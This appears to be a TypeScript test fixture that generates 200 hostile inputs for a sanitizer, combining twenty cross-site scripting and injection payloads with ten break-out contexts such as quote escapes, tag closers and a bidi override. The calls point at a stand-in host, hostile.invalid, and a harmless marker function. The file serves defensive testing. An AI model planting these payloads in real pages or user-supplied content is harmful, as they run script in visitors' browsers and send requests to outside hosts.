/** Counts in the page; what asks for anything asks this host. */
const run = 'hostileRan()'
const away = 'http://hostile.invalid'

/** Ways to make a page run or fetch something, each by itself. */
const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=${away}/a.png onerror=${run}>`,
  `<svg onload=${run}></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `<details open ontoggle=${run}>more</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<object data="javascript:${run}"></object>`,
  `<style>@import '${away}/b.css'; * { display: none }</style>`,
  `<link rel=stylesheet href=${away}/c.css>`,
  `<meta http-equiv=refresh content="0;url=${away}/d">`,
  `<base href=${away}/>`,
  `<form action=${away}/e><button autofocus>go</button></form>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  `![picture](${away}/f.png)`,
  `[link](javascript:${run})`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
]

/** What a text may have to break out of first, or how it hides. */
const contexts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></textarea></style></script>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}`,
  (payload) => `\` onmouseover=${run} ${payload}`,
  (payload) => `&quot;&gt;${payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (payload) => `\u202e${payload}\u200b`,
  (payload) => `\n\t${payload.toUpperCase().replaceAll('HOSTILERAN', 'hostileRan')}`,
]

/** 200 texts, no two alike: every payload in every context. */
export const hostileTexts: readonly string[] = payloads.flatMap((payload) => contexts.map((wrap) => wrap(payload)))
